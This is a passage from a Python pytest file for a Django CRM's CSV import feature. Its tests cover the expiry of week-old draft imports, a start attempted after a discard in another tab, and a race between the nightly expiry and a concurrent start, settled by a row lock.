    org, recruiter_user, django_capture_on_commit_callbacks
):
    old = _job(org, recruiter_user, GOOD_CSV, name="old.csv")
    fresh = _job(org, recruiter_user, GOOD_CSV, name="fresh.csv")
    started = _job(org, recruiter_user, GOOD_CSV, name="started.csv")
    _run(org, started)
    week_ago = datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=8)
    with scopes_disabled():
        Job.objects.filter(pk__in=[old.pk, started.pk]).update(created_at=week_ago)
    with django_capture_on_commit_callbacks(execute=True):
        assert imports.import_drafts_expire() == 1
    with scopes_disabled():
        left = set(Job.objects.filter(organization=org).values_list("input_name", flat=True))
    assert left == {"fresh.csv", "started.csv"}
    assert not default_storage.exists(old.input_file.name)
    assert default_storage.exists(fresh.input_file.name)


def test_import_start_of_a_draft_discarded_meanwhile_queues_nothing(
    org, recruiter_client, recruiter_user, django_capture_on_commit_callbacks
):
    """Start in one tab after Discard in another: nothing to run, and no server error."""
    _upload(recruiter_client, org, GOOD_CSV, name="mine.csv")
    with scopes_disabled():
        stale = Job.objects.get(input_name="mine.csv")
        imports.import_discard(job=Job.objects.get(pk=stale.pk))
    with scope(organization=org), django_capture_on_commit_callbacks() as callbacks:
        imports.import_start(job=stale)
    assert callbacks == []
    with scopes_disabled():
        assert not Job.objects.filter(pk=stale.pk).exists()


@pytest.mark.django_db(transaction=True)
def test_import_drafts_expire_leaves_alone_a_draft_started_at_the_same_moment(org, recruiter_user):
    """The nightly expiry meets a Start whose UPDATE has not committed yet: it waits for it,
    then sees a queued import and keeps it with its file. Before, it read the file names
    first and deleted by id after the wait: the queued import and its file were gone."""
    import threading

    from django.db import connection, transaction

    from crm.tests.locks import join_or_fail, waiting_for_a_lock

    draft = _job(org, recruiter_user, GOOD_CSV, name="old.csv")
    with scopes_disabled():
        Job.objects.filter(pk=draft.pk).update(
            created_at=datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=8)
        )
    outcome = []

    def expire():
        try:
            outcome.append(imports.import_drafts_expire())
        finally:
            connection.close()

    expirer = threading.Thread(target=expire, daemon=True)
    with scopes_disabled(), transaction.atomic():
        # Start is under way: import_start's conditional UPDATE holds the row until it commits.
        Job.objects.filter(pk=draft.pk, status=Job.Status.DRAFT).update(status=Job.Status.QUEUED)
        expirer.start()
        waited = waiting_for_a_lock()
    join_or_fail(expirer, timeout=30, failure="the expiry did not finish")

    assert (waited, outcome) == (True, [0])
    with scopes_disabled():
        assert Job.objects.get(pk=draft.pk).status == Job.Status.QUEUED
    assert default_storage.exists(draft.input_file.name)
